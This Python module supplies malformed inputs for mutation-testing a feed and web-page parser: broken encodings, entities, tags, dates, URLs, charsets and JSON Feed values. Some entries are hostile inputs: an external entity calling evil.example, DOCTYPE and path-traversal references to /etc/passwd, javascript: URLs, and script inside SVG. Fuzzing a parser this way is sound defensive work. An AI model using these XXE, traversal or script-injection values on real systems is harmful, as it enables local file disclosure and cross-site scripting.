"""Pieces of feeds and pages that nobody should write: what `mutations` puts into real ones."""

from tests.support.spite import SPITE

TEXTS = (
    *(text.encode("utf-8", "surrogatepass") for text in SPITE),
    *(b"\x00", b"\x1b[2J", b"\x9b31m", b"\xc2\x9b31m", b"\xff\xfe", b"\xfe\xff", b"\xed\xa0\x80", b"\xf4\x90\x80\x80"),
    *(b"\xc0\xaf", b"\xe2\x80", b"\xf0\x9f\x98", b"\x80\x81\x82", b"\xef\xbf\xbe", b"\xf3\xa0\x81\x81"),
    *(b"&#0;", b"&#x1b;]0;x&#7;", b"&#x9b;", b"&#xD800;", b"&#xD83D;&#xDE00;", b"&#x110000;", b"&#99999999999;"),
    *(
        b"&#" + b"9" * 4_400,
        b"&#x" + b"f" * 300 + b";",
        b"&#-1;",
        b"&#;",
        b"&#x;",
        b"&",
        b"&;",
        b"&amp;#x1b;",
        b"&amp;amp;#x202e;",
    ),
    *(b"&lt;script&gt;", b"&nbsp;", b"&x;", b"&#x202e;", b"&#8203;", b"&#xFEFF;", b"&#xE0041;", b"&acE;&nGt;"),
    *(b"<![CDATA[", b"]]>", b"]]]]><![CDATA[>", b"<!--", b"-->", b"--", b"<?", b"?>", b"<![", b"<!", b"</", b"<"),
    *(b"9" * 400, b"-" + b"9" * 30, b"1e999", b"0x7fffffffffffffff", b"2147483648", b"NaN", b"-0", b"\xd9\xa1\xd9\xa2"),
    *(b"9999-12-31T23:59:59-23:59", b"0001-01-01T00:00:00+23:59", b"31 Feb 2026 25:61:61 +9999", b"1762344000000"),
    *(b"2016-12-31T23:59:60Z", b"Mon, 01 Jan 0001 00:00:00 +0000", b"24:00", b"+00:00:00.000001", b"2026-W54-8"),
    *(b"javascript:alert(1)", b"data:text/html,x", b"file:///etc/passwd", b"http://[::1", b"http://[v1.x]/", b"//["),
    *(
        b"http://kari:secret@evil.example/",
        b"http://evil.example\\@good.example/",
        b"http://x:99999999/",
        b"http://%00/",
    ),
    *(b"https://\xe2\x84\x80.example/", b"http://e\xcc\x81\xef\xbc\x8f.example/", b"http:///x", b"HTTP://X.EXAMPLE:80"),
    *(b"a@b.example (Kari)", b"@" * 50, b'"<x@y>"' * 9, b"Z" + b"\xcc\x81" * 60, b"\xe2\x80\x8d" * 60, b" " * 999),
)
"""For the place of a text or of an attribute's value."""

TAGS = (
    *(b"<item>", b"</item>", b"<entry>", b"</entry>", b"<channel>", b"</channel>", b"<rss>", b"<feed>", b"</feed>"),
    *(b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">', b"<title/>", b"<title>", b"</title>"),
    *(b"<guid>x</guid>", b"<id/>", b"<link href=", b"<link href='", b'<link rel="alternate" href="', b"<link/>"),
    *(b"<author><name>", b"<author/>", b"<dc:creator>\x1b</dc:creator>", b"<media:credit role='x'>", b"<image><url>"),
    *(b"<category/>", b"<category term='\xc2\x9b'/>", b"<itunes:category text='a'>", b"<media:group>", b"<source>"),
    *(b"<pubDate>x</pubDate>", b"<updated>9999-12-31T23:59:59-23:59</updated>", b"<dc:date>\x00</dc:date>"),
    *(
        b"<content type='xhtml'><div>",
        b"<content type='application/octet-stream' mode='base64'>AAAA",
        b"<summary src='//['>",
    ),
    *(b"<content type='image/svg+xml'><svg><script>", b"<content:encoded><![CDATA[", b"<description><p><p><p>"),
    *(
        b"<slash:comments>\xd9\xa1</slash:comments>",
        b"<thr:total>1e9</thr:total>",
        b"<thr:in-reply-to ref='\x1b' href='//['/>",
    ),
    *(b"<thr:in-reply-to/>", b"<wfw:commentRss>javascript:x</wfw:commentRss>", b"<comments>//[</comments>"),
    *(b"<geo:lat>9e999</geo:lat><geo:long>x</geo:long>", b"<georss:point>1</georss:point>", b"<gml:posList>1 x 2"),
    *(b"<psc:chapter start='::'/>", b"<itunes:duration>:::</itunes:duration>", b"<enclosure length='x' url='//['/>"),
    *(
        b"<a " + b"b " * 150 + b">",
        b"<a b='",
        b'<a b="',
        b"<a b=c",
        b"<a:b:c/>",
        b"<:x/>",
        b"<x xmlns:y='",
        b"<\xc3\xa5/>",
    ),
    *(b"<x xml:base='//['>", b"<x xml:base='http://[::1'>", b"<x xml:base='javascript:'>", b"<x xml:lang='\x1b'>"),
    *(b"<x xmlns=''>", b"<x xmlns='http://www.w3.org/2005/Atom'>", b"<x xmlns='http://purl.org/rss/1.0/'>"),
    *(
        b"<!DOCTYPE x [<!ENTITY a 'b'>]>",
        b'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        b"<!DOCTYPE html>",
        b"<!DOCTYPE [",
    ),
    *(b"<!ENTITY % p SYSTEM 'http://evil.example/'> %p;", b"<![INCLUDE[", b"<![IGNORE[x]]>", b"<![endif]-->", b"<!>"),
    *(b"<?xml version='1.0' encoding='utf-7'?>", b"<?xml?>", b"<?php", b"<?xml-stylesheet href='//['?>"),
)
"""Markup for feeds, put where a tag may begin."""

PAGE_TAGS = (
    *(b"<base href='//['>", b"<base href='javascript:x'>", b"<link rel=alternate type='application/rss+xml' href='"),
    *(b"<link rel='alternate' type='application/rss+xml' href='//[' title='\x1b'>", b"<meta charset=utf-7>", b"<!--"),
    *(b"<link rel=alternate type=application/atom+xml href=http://kari:x@evil.example title='&#x202e;x'>", b"<script>"),
    *(b"<script type='application/ld+json'>", b'{"@type":"BlogPosting","commentCount":', b"</script", b"<style>"),
    *(
        b"<div itemscope itemprop=url itemtype='//['>",
        b"<meta itemprop=commentCount content=",
        b"<span property=url about>",
    ),
    *(
        b"<div id=disqus_thread>",
        b"<textarea>",
        b"<title>",
        b"<![",
        b"<![if",
        b"<!x",
        b"<!",
        b"</",
        b"<?",
        b"<a\x00b='",
        b"<svg>",
    ),
    *(
        b"<plaintext>",
        b"<template>",
        b"<noscript>",
        b"<p " + b"x=1 " * 150 + b">",
        b"<form action='javascript:x'>",
        b"</html",
    ),
)

ROOTS = (
    b"<?xml version='1.0' encoding='%s'?>",
    b'<?xml encoding="%s" version="1.1" standalone="yes"?>',
    b"\n <?xml version='1.0' encoding='%s'?>",
    b"<meta charset='%s'>",
)
CHARSETS = (
    *("utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "iso-8859-1", "windows-1252", "us-ascii"),
    *("koi8-r", "shift_jis", "iso-2022-jp", "gb18030", "hz", "cp037", "cp500", "big5hkscs", "euc-kr"),
)
ODD_CHARSETS = (
    *("punycode", "idna", "base64", "rot13", "zlib", "hex", "unicode_escape", "raw_unicode_escape", "undefined"),
    *("uu", "bz2", "mbcs", "x", "", "\xff", "utf-8\x00", "../../etc/passwd", "unicode-1-1-utf-8", "a" * 500),
)
MARKS = (
    b"\xef\xbb\xbf",
    b"\xff\xfe",
    b"\xfe\xff",
    b"\xff\xfe\x00\x00",
    b"\x00\x00\xfe\xff",
    b"\x4c\x6f\xa7\x94",
    b"+/v8-",
)
TYPES = (
    *(None, "", "application/rss+xml", "text/xml", "application/atom+xml; charset=utf-8", "text/html", "text/plain"),
    *(
        "application/feed+json",
        "application/json; charset=utf-16",
        "application/xml; charset=%s",
        "text/html; charset=%s",
    ),
    *("text/xml; charset=%s; charset=utf-8", "TEXT/XML;CHARSET=%s", "; charset=", "x" * 999, "\xff/\x9b; charset=%s"),
)
ADDRESSES = (
    *("https://kari.example/feed/", "http://kari.example/", "https://kari.example/a/b/c.xml?x=1#y"),
    *("https://xn--blbr-roah.example/", "http://[2001:db8::1]:8080/feed", "https://kari.example/" + "x/" * 900),
)
VALUES = (
    *(None, True, False, 0, -1, 10**400, 1.5, float("inf"), float("nan"), "", "x", [], {}, [[]], [None], {"": None}),
    *({"name": {"name": []}}, {"url": "//["}, ["\ud800"], "\ud800", "\x1b[2J", "\u202e", "javascript:x", "9" * 5_000),
    *("9999-12-31T23:59:59-23:59", "2016-12-31T23:59:60Z", "https://jsonfeed.org/version/1.1", "<p>" * 500, "[" * 900),
)
"""For any place in a JSON Feed."""
